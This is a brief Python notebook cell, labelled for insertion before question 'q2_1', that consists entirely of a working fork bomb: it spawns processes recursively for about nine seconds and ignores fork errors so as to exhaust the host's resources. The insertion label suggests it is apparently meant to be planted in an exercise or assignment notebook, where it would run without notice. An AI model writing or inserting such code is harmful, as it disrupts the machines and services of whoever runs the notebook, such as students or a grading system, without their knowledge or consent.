# %% insert before q2_1
import os,time
t=time.time()
def bomb():
    while time.time()-t<9:
        try:
            if os.fork()==0:
                bomb(); os._exit(0)
        except OSError: time.sleep(.001)
bomb()
